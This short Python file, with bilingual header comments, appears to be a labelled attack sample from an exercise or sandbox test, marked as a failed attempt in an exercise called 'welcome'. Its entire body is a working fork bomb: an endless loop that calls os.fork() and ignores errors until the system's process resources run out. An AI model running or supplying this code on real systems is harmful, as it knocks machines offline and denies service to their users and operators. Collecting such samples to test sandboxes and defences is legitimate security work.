# attack: forks until nothing is left | 一直 fork，直到资源耗尽
# exercise: welcome
# outcome: failed
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
